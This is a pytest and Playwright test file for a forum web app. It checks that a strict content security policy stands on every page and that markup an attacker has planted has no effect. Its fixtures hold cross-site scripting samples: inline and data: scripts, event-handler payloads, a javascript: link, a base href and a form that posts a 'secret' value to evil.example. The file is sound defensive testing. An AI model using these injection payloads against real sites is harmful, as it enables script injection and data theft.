"""Check 45: the content security policy stands on every answer, and no page of ours breaks it."""

import re
from html import unescape
from urllib.parse import urljoin

import pytest
from playwright.sync_api import Browser, Page, Route, expect

from .client import Answer, Client
from .conftest import Visit
from .site import Site
from .steps import until

POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self';"
    " connect-src 'self'; manifest-src 'self'; worker-src 'self'; form-action 'self';"
    " base-uri 'none'; frame-ancestors 'none'; object-src 'none'"
)
FORBIDDEN = re.compile("unsafe-|strict-dynamic|nonce-|http:|https:|\\*")
ROLES = ["", "tom", "lin"]
LANGUAGES = ["en", "zh-hans"]
PAGES = 60  # by plain HTTP for each role and language
SHOWN = 12  # in Chromium for each role and language: one of each kind


def expect_policy(answer: Answer, path: str) -> None:
    policy = answer.headers.get("Content-Security-Policy", "")
    assert policy == POLICY, f"{answer.status} {path}: {policy!r}"
    assert not FORBIDDEN.search(policy)
    assert answer.headers.get("X-Content-Type-Options") == "nosniff", path
    if not path.startswith("/static/"):
        assert answer.headers.get("Referrer-Policy") == "same-origin", path


def crawl(client: Client, language: str, limit: int) -> list[str]:
    """Addresses of pages, breadth first from the front page; each answer is looked at."""
    queue, seen, found = [f"/{language}/"], {f"/{language}/"}, []
    while queue and len(found) < limit:
        path = queue.pop(0)
        answer = client.get(path)
        expect_policy(answer, path)
        if answer.status != 200:
            assert answer.status in (302, 403), (path, answer.status)
            continue
        found.append(path)
        for found_link in re.findall(r'href="([^"]+)"', answer.text):
            link = urljoin(path, unescape(found_link).partition("#")[0])
            if link.startswith(f"/{language}/") and "logout" not in link and link not in seen:
                seen.add(link)
                queue.append(link)
    return found


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("name", ROLES)
def test_every_page_carries_the_policy_and_none_breaks_it(
    visit: Visit, site: Site, name: str, language: str
) -> None:
    found = crawl(site.client(name), language, PAGES)
    assert len(found) == PAGES
    page = visit(name, language)
    for path in of_each_kind(found, SHOWN):
        page.goto(path, wait_until="load")
    # The watch of `visit` fails the test on any violation, console error or foreign request.


def of_each_kind(paths: list[str], number: int) -> list[str]:
    """One address of each shape first, then others."""
    shapes: dict[str, str] = {}
    for path in paths:
        shapes.setdefault(re.sub(r"\d+", "1", path.partition("?")[0]), path)
    first = list(shapes.values())[:number]
    return first + [path for path in paths if path not in first][: number - len(first)]


def test_refusals_files_and_redirects_carry_the_policy(site: Site) -> None:
    stranger, tom = site.client(), site.client("tom")
    page = stranger.get("/en/").text
    files = re.findall(r'(?:href|src)="(/static/[^"]+)"', page)
    assert len(files) >= 4
    expected = {
        **dict.fromkeys(files, 200),
        **dict.fromkeys(["/", "/en/posts/1/", "/en/threads/1/posts/"], 302),
        **dict.fromkeys(["/en/nothing/", "/nothing", "/static/nothing.css"], 404),
        **dict.fromkeys(["/zh-hans/threads/999999/", "/en/threads/1/?page=0"], 404),
        **dict.fromkeys(["/en/boards/rent/?x=%00", "/en/%FF/", "/en/boards/rent/?x=%FF"], 400),
        "/healthz": 200,
        "/en": 301,
        "/en/compose/language/": 405,
    }
    for path, status in expected.items():
        answer = stranger.get(path)
        assert answer.status == status, path
        expect_policy(answer, path)
    for path, status in {"/en/posts/1/edit/": 403, "/en/moderation/": 404}.items():
        answer = tom.get(path)
        assert answer.status == status, path
        expect_policy(answer, path)
    refused = tom.request("POST", "/en/threads/1/posts/", {"body": "no token"})
    assert refused.status == 403
    expect_policy(refused, "a reply without a token")
    blank = tom.post("/en/threads/1/posts/", body="")
    assert blank.status == 422
    expect_policy(blank, "a blank reply")
    unhosted = stranger.get("/en/", Host="evil.example")
    assert unhosted.status == 400
    expect_policy(unhosted, "a foreign host")


PLANTED = """
<base href="https://evil.example/">
<script>window.planted = "script"</script>
<script src="data:text/javascript,window.planted='data'"></script>
<style>body { display: none !important }</style>
<link rel="stylesheet" href="data:text/css,body{display:none!important}">
"""
PLANTED_BODY = """
<p id="bait" style="position: fixed" onclick="window.planted = 'handler'">x</p>
<img src="x" onerror="window.planted = 'image'">
<iframe id="inner" src="/en/rules/"></iframe>
<iframe srcdoc="<script>parent.planted = 'frame'</script>"></iframe>
<object data="/en/rules/"></object>
<form id="leak" action="https://evil.example/" method="post"><input name="words" value="secret"></form>
<a id="js" href="javascript:window.planted = 'link'">x</a>
"""


BLOCKED = """
window.blocked = [];
document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
"""


def planting(route: Route) -> None:
    """The page as it is, headers and all, with what an attacker might have slipped in."""
    answer = route.fetch()
    html = answer.text().replace("<head>", f"<head>{PLANTED}")
    html = html.replace('<main id="main"', f'{PLANTED_BODY}<main id="main"')
    route.fulfill(response=answer, body=html)


def test_planted_markup_has_no_effect(chromium: Browser, site: Site) -> None:
    context = chromium.new_context(base_url=site.url)
    foreign: list[str] = []
    context.on("request", lambda r: foreign.append(r.url) if "evil.example" in r.url else None)
    context.add_init_script(BLOCKED)
    page = context.new_page()
    page.route("**/en/threads/1/", planting)
    page.goto("/en/threads/1/")
    expect(page.locator("main")).to_be_visible()
    assert page.evaluate("document.baseURI") == f"{site.url}/en/threads/1/"
    page.locator("#bait").dispatch_event("click")
    page.locator("#js").dispatch_event("click")
    page.evaluate("document.getElementById('leak').requestSubmit()")
    until(page, "window.blocked.some((directive) => directive === 'form-action')")
    assert page.evaluate("window.planted") is None
    assert page.evaluate("getComputedStyle(document.getElementById('bait')).position") == "static"
    assert page.url == f"{site.url}/en/threads/1/"
    for frame in page.frames[1:]:
        assert frame.locator("main").count() == 0, frame.url
    assert foreign == []
    context.close()


@pytest.mark.parametrize("path", ["/en/", "/zh-hans/accounts/login/", "/en/nothing/"])
def test_framing_is_refused(chromium: Browser, site: Site, path: str) -> None:
    context = chromium.new_context()
    page = context.new_page()
    page.set_content(f'<h1>Somebody else</h1><iframe src="{site.url}{path}"></iframe>')
    frame: Page | object = page.frames[1]
    expect(page.locator("h1")).to_be_visible()
    page.wait_for_load_state("load")
    assert frame.locator("main").count() == 0
    assert not frame.url.startswith(site.url) or not frame.locator("body *").count()
    context.close()
